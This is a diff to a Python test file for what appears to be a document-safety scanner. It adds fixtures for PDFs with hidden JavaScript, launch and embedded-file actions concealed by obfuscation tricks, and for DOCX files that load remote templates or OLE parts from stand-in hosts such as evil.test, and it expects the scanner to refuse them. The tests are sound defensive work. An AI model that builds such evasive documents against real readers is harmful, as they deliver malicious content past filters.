@@ -84,6 +84,7 @@ def doubled() -> bytes:
 
 
 _LAUNCH, _GOTO, _SITE = "<</S/Launch/F(a.exe)>>", "<</S/GoTo/D(a)>>", "<</S/URI/URI(https://evil.test)>>"
+_HIDDEN = made.active_pdf("<</S/JavaScript/JS(1)>>", packed=True)
 ACTIVE = {
     "a script": made.active_pdf("<</S /JavaScript /JS (app.alert\\(1\\))>>"),
     "a script in disguise": made.active_pdf("<</S /J#61vaScr#69pt /#4a#53 (1)>>"),
@@ -103,6 +104,13 @@ ACTIVE = {
     "a site behind a comment": made.active_pdf(catalog="/OpenAction <</S/GoTo/D[1]%>>\n/Next 7 0 R>>"),
     "what it opens is not there": made.active_pdf(catalog="/OpenAction 7 0 R"),
     "what it opens after much space": made.active_pdf(catalog=f"/Open#41ction{' ' * 999}{_SITE}"),
+    "a list packed as another object says": _HIDDEN.replace(b"/Filter/FlateDecode", b"/Filter 8 0 R"),
+    "a list that another object says it is": _HIDDEN.replace(b"/Type/ObjStm", b"/Type 8 0 R"),
+    "a list behind a long comment": _HIDDEN.replace(b"/N 1", b"%" + b"x" * 5_000 + b"\n/N 1"),
+    "a list behind a word in it": _HIDDEN.replace(b"/N 1", b"/X (obj)/N 1"),
+    "a list behind many spaces": _HIDDEN.replace(b">>stream\r", b">>stream" + b" " * 99 + b"\r"),
+    "a form with scripts of its own": made.active_pdf("<</XFA [(a) 8 0 R]>>"),
+    "a file that a link opens": made.active_pdf("<</S/GoToE/F 8 0 R>>"),
     "a list packed in another way": made.active_pdf("1 ", packed=True).replace(b"/FlateDecode", b"[/AHx/Fl]"),
 }  # fmt: skip
 
@@ -182,6 +190,15 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
     "a DOCX that fetches a template": (
         "a.docx",
         far_template("http://evil.test/a.dotm"),
+        "document.programs",
+    ),
+    "a template on a share": ("a.docx", far_template("\\\\evil\\s\\a.dotm"), "document.programs"),
+    "a template on another machine": ("a.docx", far_template("file://evil/a.dotm"), "document.programs"),
+    "a part from elsewhere": (
+        "a.docx",
+        made.docx(
+            {"word/_rels/Other.xml.rels": '<Relationship Type="oleObject" Target="http://evil.test/a"/>'}
+        ),
         "document.programs",
     ),
     "the same in other quotes": ("a.docx", far_template("https://evil.test/a", "'"), "document.programs"),
